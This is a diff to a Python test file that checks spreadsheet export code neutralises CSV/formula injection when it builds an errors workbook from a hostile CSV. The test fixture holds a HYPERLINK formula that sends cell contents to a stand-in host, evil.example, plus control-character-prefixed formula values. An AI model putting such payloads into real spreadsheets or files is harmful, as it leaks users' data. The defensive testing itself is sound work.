@@ -14,7 +14,7 @@ from openpyxl import Workbook, load_workbook
 
 from qingfeng.lib.cells import safe_cell, safe_filename, safe_text, unquoted
 from qingfeng.lib.plain_xlsx import plain_workbook
-from qingfeng.lib.tabular import cell
+from qingfeng.lib.tabular import Issue, cell, errors_workbook
 from qingfeng.lib.xlsx import Sheet, attachment, workbook_bytes
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -117,3 +117,21 @@ def test_finding_3_the_streaming_and_openpyxl_writers_write_the_same_text() -> N
         assert values[0][0] == "'=title"
         assert values[2] == ["'=h", "b", "c", "d"]
         assert values[3] == ["'" + HYPERLINK, "'@x", -2, "ok"]
+
+
+def test_finding_3_7_the_errors_workbook_of_a_hostile_csv_is_safe() -> None:
+    quoted = HYPERLINK.replace('"', '""')
+    data = f'unit,note\nU-1,"{quoted}"\nU-2,\x01@x\n'.encode()
+    issues = [
+        Issue("", 2, "note", 'unknown value "\x01=1+1"'),
+        Issue("", 3, "unit", "\x01=bad"),
+    ]
+    book = errors_workbook(data=data, filename="r.csv", issues=issues, sheet="records")
+    assert book is not None
+    cells = _read_back(book)
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = [c.value for c in cells]
+    assert "'" + HYPERLINK in values
+    assert "'@x" in values
+    assert 'note: unknown value "=1+1"' in values
+    assert "unit: =bad" in values
